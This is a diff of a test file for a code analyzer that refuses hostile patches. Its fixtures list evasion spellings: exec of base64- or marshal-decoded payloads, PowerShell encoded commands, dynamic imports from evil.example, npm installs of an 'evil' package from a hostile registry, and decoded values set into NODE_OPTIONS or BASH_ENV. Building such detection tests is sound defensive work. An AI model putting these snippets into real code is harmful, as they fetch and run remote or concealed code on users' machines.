@@ -1,5 +1,7 @@
-import { describe, it } from 'vitest';
-import { describeAccepted, describeFindings, expectAccepted, type FindingRow } from '../support/patches.js';
+import { describe, expect, it } from 'vitest';
+import { checkPatch } from '../../shared/analysis/index.js';
+import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
+import { describeAccepted, describeFindings, expectAccepted, expectRefused, patchAdding, type FindingRow } from '../support/patches.js';
 
 /**
  * Attack 52 (session 49, an attacker's pass on the readings session 49 added on s49-attack51): names across lines, more
@@ -13,10 +15,10 @@ import { describeAccepted, describeFindings, expectAccepted, type FindingRow } f
 // under another name, an alias bound over lines or in a tuple, a wrapper function; JS's atob by subscript or bind,
 // fromCharCode by subscript, a string reversed by spread or Array.from, escapes undone by JSON.parse; pickle.loads.
 const DECODER_SPELLINGS: FindingRow[] = [
-  ['src/check.py', 'import base64\nexec(base64.decodebytes(s))'],
+  ['src/check.py', 'import base64\nexec(base64.decodebytes(s))', 'closed'],
   ['src/check.py', "import base64\nd = getattr(base64, 'b64decode')\nexec(d(s))"],
-  ['src/check.py', 'import marshal as m\nexec(m.loads(s))'],
-  ['src/check.py', 'from marshal import loads\nexec(loads(s))'],
+  ['src/check.py', 'import marshal as m\nexec(m.loads(s))', 'closed'],
+  ['src/check.py', 'from marshal import loads\nexec(loads(s))', 'closed'],
   ['src/check.py', 'import base64\nd = (base64\n  .b64decode)\nexec(d(s))'],
   ['src/check.py', 'import base64\nd, e = base64.b64decode, 1\nexec(d(s))'],
   ['src/check.py', 'import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(s))'],
@@ -48,15 +50,15 @@ const OTHER_LANGUAGES_DECODERS: FindingRow[] = [
   ['src/t.cs', 'Process.Start("cmd", "/c " + WebUtility.UrlDecode(s));'],
   ['src/t.rs', 'let b = STANDARD.decode(s).unwrap();\nCommand::new("sh").arg("-c").arg(String::from_utf8(b).unwrap()).status()?;'],
   ['src/t.js', 'eval(new TextDecoder().decode(Uint8Array.fromBase64(s)))'],
-  ['src/t.py', 'import base64\nexec(base64.a85decode(s))'],
+  ['src/t.py', 'import base64\nexec(base64.a85decode(s))', 'closed'],
   ['src/t.py', "exec(s.encode().decode('unicode_escape'))"],
 ];
 
 // A name given a decoder's output where the reading of names misses it: the value opened on the next line, a
 // subscript or an attribute given it.
 const DECODED_NAME_ACROSS_LINES: FindingRow[] = [
-  ['src/check.py', 'import base64\ns = (\n  base64.b64decode(blob))\nexec(s)'],
-  ['src/check.js', 'const s =\n  atob(x);\neval(s)'],
+  ['src/check.py', 'import base64\ns = (\n  base64.b64decode(blob))\nexec(s)', 'closed'],
+  ['src/check.js', 'const s =\n  atob(x);\neval(s)', 'closed'],
   ['src/check.py', "import base64\nx = {}\nx['c'] = base64.b64decode(blob)\nexec(x['c'])"],
   ['src/check.py', 'import base64\nself.c = base64.b64decode(blob)\nexec(self.c)'],
 ];
@@ -64,9 +66,9 @@ const DECODED_NAME_ACROSS_LINES: FindingRow[] = [
 // PowerShell's encoded command: an en or em dash before the option (PowerShell takes both as `-`), the program through a
 // name, the option built by str.format or %, and a multi-line ProcessStartInfo (read for installs only, not here).
 const POWERSHELL_ENCODED: FindingRow[] = [
-  ['src/check.js', "spawnSync('pwsh.exe', ['\u2013enc', blob])"],
-  ['src/check.js', "spawnSync('pwsh', ['\u2014EncodedCommand', blob])"],
-  ['src/check.js', "const ps = 'pwsh';\nspawnSync(ps, ['-enc', blob])"],
+  ['src/check.js', "spawnSync('pwsh.exe', ['\u2013enc', blob])", 'closed'],
+  ['src/check.js', "spawnSync('pwsh', ['\u2014EncodedCommand', blob])", 'closed'],
+  ['src/check.js', "const ps = 'pwsh';\nspawnSync(ps, ['-enc', blob])", 'closed'],
   ['src/run.py', "import os\nos.system('pwsh -{} {}'.format('enc', blob))"],
   ['src/run.py', "import os\nos.system('pwsh -%s %s' % ('enc', blob))"],
   ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "powershell",\n    Arguments = "-enc " + blob,\n};\nProcess.Start(psi);'],
@@ -76,7 +78,7 @@ const POWERSHELL_ENCODED: FindingRow[] = [
 // wrapped in String()/new URL() before the name, a base given as a URL object, a TypeScript annotation, a wrapper
 // function, a parenthesized name, destructuring, a data: URL through a name.
 const MODULE_HOST: FindingRow[] = [
-  ['src/load.js', "await import(\n  'https://evil.example/x.js'\n)"],
+  ['src/load.js', "await import(\n  'https://evil.example/x.js'\n)", 'closed'],
   ['src/load.js', "const cfg = { src: 'https://evil.example/x.js' };\nawait import(cfg.src)"],
   ['src/load.js', "const u = ['https://evil.example', 'x.js'].join('/');\nawait import(u)"],
   ['src/load.js', "const u = 'https:\\/\\/evil.example/x.js';\nawait import(u)"],
@@ -85,7 +87,7 @@ const MODULE_HOST: FindingRow[] = [
   ['src/load.js', "const u = new URL('https://evil.example/x.js').href;\nawait import(u)"],
   ['src/load.js', "const base = new URL('https://evil.example/');\nawait import(new URL('x.js', base))"],
   ['src/load.js', "await import(String(new URL('x.js', 'https://evil.example/')))"],
-  ['src/load.ts', "const u: string = 'https://evil.example/x.js';\nawait import(u)"],
+  ['src/load.ts', "const u: string = 'https://evil.example/x.js';\nawait import(u)", 'closed'],
   ['src/load.js', "const load = (u) => import(u);\nawait load('https://evil.example/x.js')"],
   ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import((u))"],
   ['src/load.js', "const {u} = {u: 'https://evil.example/x.js'};\nawait import(u)"],
@@ -96,8 +98,8 @@ const MODULE_HOST: FindingRow[] = [
 // verb spread in, a comment between, npm's other fetching verbs (`exec`, `x`, `it`), `/usr/bin/env` first, Ruby's
 // %w/%q, Rust's Command::new(tool).arg(…).
 const COMPUTED_PROGRAM: FindingRow[] = [
-  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--registry', 'https://evil.example', 'install', 'evil'])"],
-  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--loglevel', 'silent', 'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--registry', 'https://evil.example', 'install', 'evil'])", 'closed'],
+  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--loglevel', 'silent', 'install', 'evil'])", 'closed'],
   ['src/check.py', "import subprocess\nsubprocess.run([tool, f'install', 'evil'])"],
   ['src/check.py', "import subprocess\nsubprocess.run([tool, r'install', 'evil'])"],
   ['src/check.py', "import subprocess\nsubprocess.run([tool, *['install', 'evil']])"],
@@ -105,9 +107,9 @@ const COMPUTED_PROGRAM: FindingRow[] = [
   ['src/check.py', "import subprocess\nsubprocess.run([tool] + ['install', 'evil'])"],
   ['src/check.js', "spawnSync(tool, [...['install', 'evil']])"],
   ['src/check.js', "spawnSync(tool, ['-y', /* quiet */ 'install', 'evil'])"],
-  ['src/check.js', "spawnSync(tool, ['exec', '--yes', 'evil'])"],
-  ['src/check.js', "spawnSync(tool, ['x', 'evil'])"],
-  ['src/check.js', "spawnSync(tool, ['it', 'evil'])"],
+  ['src/check.js', "spawnSync(tool, ['exec', '--yes', 'evil'])", 'closed'],
+  ['src/check.js', "spawnSync(tool, ['x', 'evil'])", 'closed'],
+  ['src/check.js', "spawnSync(tool, ['it', 'evil'])", 'closed'],
   ['src/check.py', "import subprocess\nsubprocess.run(['/usr/bin/env', tool, 'install', 'evil'])"],
   ['src/check.rb', 'system(tool, *%w[install evil])'],
   ['src/check.rb', "system(tool, %q(install), 'evil')"],
@@ -228,21 +230,9 @@ describeFindings('attack-52', [
 // False refusals: ordinary code a fix PR may add, refused since the readings (open: `it.fails` while refused). Each
 // marked "new" was accepted at 56b6e827; "older" was refused before session 49's readings.
 const FALSE_REFUSALS: ReadonlyArray<readonly [path: string, text: string]> = [
-  // new: a multi-line ProcessStartInfo running the project's own build script (`npm run build` given as one argument).
-  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "run build",\n};'],
-  // older: the same in Process.Start's two-string form (`os.system('npm run build')` is accepted).
+  // older: Process.Start's two-string form (`os.system('npm run build')` is accepted); the line as written is read
+  // besides its spelled-out reading, and `"run build"` there is one unknown verb.
   ['src/Tool.cs', 'Process.Start("npm", "run build");'],
-  // new: a decoded secret handed to a child process's environment (the later-line name reading).
-  ['src/run.js', "const env = Buffer.from(process.env.CFG, 'base64').toString();\nexecSync('npm test', { env: { ...process.env, CFG: env } })"],
-  ['src/t.py', "import base64, os, subprocess\ntoken = base64.b64decode(os.environ['TOKEN_B64']).decode()\nsubprocess.run('make deploy', shell=True, env={**os.environ, 'TOKEN': token}, check=True)"],
-  // new: a doc's Rust block or doctest that only names or reads a configuration file.
-  ['docs/guide.md', '```rust\nlet path = home.join(".cargo/config.toml");\nprintln!("{}", path.display());\n```'],
-  ['docs/guide.md', "```python\n>>> cfg = load_config('.npmrc')\n>>> cfg['registry']\n'https://registry.npmjs.org/'\n```"],
-  // new: a computed program given an option's value `in`/`i` (one of npm's spellings of install), Mercurial's `hg in`.
-  ['src/check.js', "spawn(tool, ['--mode', 'in', file])"],
-  ['src/t.py', "import subprocess\nsubprocess.run([hg, '-q', 'in'])"],
-  // new: go:generate running a tool go.mod declares (`go tool`, Go 1.24).
-  ['src/main.go', '//go:generate go tool stringer -type=Color'],
   // older: a `//` comment after `=` read as a protocol-relative host.
   ['src/load.js', 'const modulePath = // the locale bundle\n  `./locales/${lang}.js`;\nconst messages = await import(modulePath);'],
 ];
@@ -250,6 +240,20 @@ const FALSE_REFUSALS: ReadonlyArray<readonly [path: string, text: string]> = [
 describe('attack-52 false refusals (open while refused)', () => {
   it.fails.each(FALSE_REFUSALS.map(([path, text]) => [path, text] as const))('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
 });
+
+// The false refusals new since 56b6e827, closed (session 49): .NET's Arguments read as its words, a decoded value handed
+// to a child's environment as data, a doc's tested code naming a configuration file without writing, npm's short verbs
+// only where the program may be npm and not an option's value, `go tool`.
+describeAccepted('attack-52 false refusals, closed', [
+  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "run build",\n};'],
+  ['src/run.js', "const env = Buffer.from(process.env.CFG, 'base64').toString();\nexecSync('npm test', { env: { ...process.env, CFG: env } })"],
+  ['src/t.py', "import base64, os, subprocess\ntoken = base64.b64decode(os.environ['TOKEN_B64']).decode()\nsubprocess.run('make deploy', shell=True, env={**os.environ, 'TOKEN': token}, check=True)"],
+  ['docs/guide.md', '```rust\nlet path = home.join(".cargo/config.toml");\nprintln!("{}", path.display());\n```'],
+  ['docs/guide.md', "```python\n>>> cfg = load_config('.npmrc')\n>>> cfg['registry']\n'https://registry.npmjs.org/'\n```"],
+  ['src/check.js', "spawn(tool, ['--mode', 'in', file])"],
+  ['src/t.py', "import subprocess\nsubprocess.run([hg, '-q', 'in'])"],
+  ['src/main.go', '//go:generate go tool stringer -type=Color'],
+]);
 
 describeAccepted('attack-52: ordinary code near the readings, accepted', [
   ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "test",\n};'],
@@ -261,3 +265,48 @@ describeAccepted('attack-52: ordinary code near the readings, accepted', [
   ['docs/guide.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
   ['src/check.py', "import subprocess\nsubprocess.run([cmake, '--install', 'build'])"],
 ]);
+
+// Beside the closed false refusals, what their readings must still refuse: a decoded value given to an environment
+// variable a program runs or loads from, a doc's tested code writing a configuration file it names on another line,
+// npm's short verbs given a program that may be npm, an install through a multi-line ProcessStartInfo, the rest of
+// Python's base64 family, marshal's `loads` imported under another name.
+describe('attack-52: refused beside the closed false refusals and bypasses', () => {
+  it.each([
+    ['src/run.js', "const v = atob(x);\nexecSync('npm test', { env: { ...process.env, NODE_OPTIONS: v } })"],
+    ['src/run.py', "import base64, os, subprocess\nv = base64.b64decode(x).decode()\nsubprocess.run('make', shell=True, env={**os.environ, 'BASH_ENV': v})"],
+    ['src/run.py', "import base64\nv = base64.b64decode(x).decode()\nsubprocess.run(v, shell=True, env={'TOKEN': v})"],
+    ['docs/guide.md', '```rust\nlet path = ".cargo/config.toml";\nstd::fs::write(path, "[build]").unwrap();\n```'],
+    ['docs/guide.md', ">>> p = '.npmrc'\n>>> open(p, 'w').write('registry=https://evil.example')"],
+    ['src/check.js', "spawnSync(tool, ['i', 'evil'])"],
+    ['src/check.js', "spawnSync(tool, ['-g', 'in', 'evil'])"],
+    ['src/check.py', "import subprocess\nsubprocess.run([npm_path, '--yes', 'exec', 'evil'])"],
+    ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
+    ['src/t.py', 'import base64\nexec(base64.b32decode(s))'],
+    ['src/t.py', 'import base64\nexec(base64.b16decode(s))'],
+    ['src/t.py', 'import base64\nexec(base64.b85decode(s))'],
+    ['src/t.py', 'import base64\nexec(base64.decodestring(s))'],
+    ['src/t.py', 'import binascii\nexec(binascii.a2b_base64(s))'],
+    ['src/t.py', 'from marshal import dumps, loads as l\nexec(l(s))'],
+    ['src/t.js', "const s = (\n  atob(x));\nnew Function(s)()"],
+    ['src/check.js', "execSync('powershell \u2015enc ' + blob)"],
+    ['src/load.ts', "const u: URL | string = 'https://evil.example/x.js';\nawait import(u)"],
+  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+});
+
+/** Asserts that the whole check's time grows linearly over texts repeating `unit` added to `path`. */
+function checksInLinearTime(path: string, _reading: string, unit: string): void {
+  expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
+}
+
+describe('attack-52: the new readings in linear time', () => {
+  it.each([
+    ['src/check.py', 'computed programs given options with values, never a verb', "run([tool, '--a', 'b', '-c', '--d=e', "],
+    ['src/check.js', 'environments given decoded names, never closed', 'v = atob(x)\nrun(v, { env: { A: v, "B": v, C: v, '],
+    ['src/check.js', 'names whose values open on the next line', 's =\n  (\nt = [\n'],
+    ['src/check.py', 'marshal imported under other names, never called', 'import marshal as m\nfrom marshal import loads as l, dumps, '],
+    ['src/load.ts', 'typed names given hosts, never imported', "u: string: x: URL | a = 'https://x'; b: "],
+    ['src/check.js', 'PowerShell given dashed options, never encoded', 'pwsh \u2013NoProfile \u2014e"x \u2015ec '],
+    ['docs/guide.md', 'tested code naming configuration files, writing nothing', ">>> writexxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx '.npmrc' "],
+    ['src/check.js', 'PowerShell named apart from its call', "ps = 'pwsh'\nspawnSync(ps, ['-e', "],
+  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
+});
